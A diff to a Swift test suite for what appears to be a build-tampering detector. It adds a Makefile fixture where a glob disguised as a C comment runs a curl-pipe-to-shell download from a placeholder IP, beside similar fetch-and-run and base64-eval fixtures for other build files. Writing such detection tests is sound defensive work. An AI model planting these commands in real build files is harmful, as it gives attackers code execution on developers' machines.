@@ -39,6 +39,8 @@ struct BuildTamperingDetectorTests {
 
     @Test(arguments: [
         ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -fsSL https://203.0.113.7/setup.sh | sh\")", "CUST-BUILD-001"),
+        // `/*/bin/sh` globs to a real shell: a make recipe line that looks like a C comment.
+        ("Makefile", "\t/*/bin/sh -c 'curl -fsSL http://203.0.113.7/i | sh' */", "CUST-BUILD-001"),
         ("build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://198.51.100.4/p | base64 -d | sh\").status().unwrap();", "CUST-BUILD-002"),
         ("setup.py", "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=\"))", "CUST-BUILD-002"),
         ("package.json", "    \"build\": \"node -e \\\"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\\\"\",", "CUST-BUILD-002"),
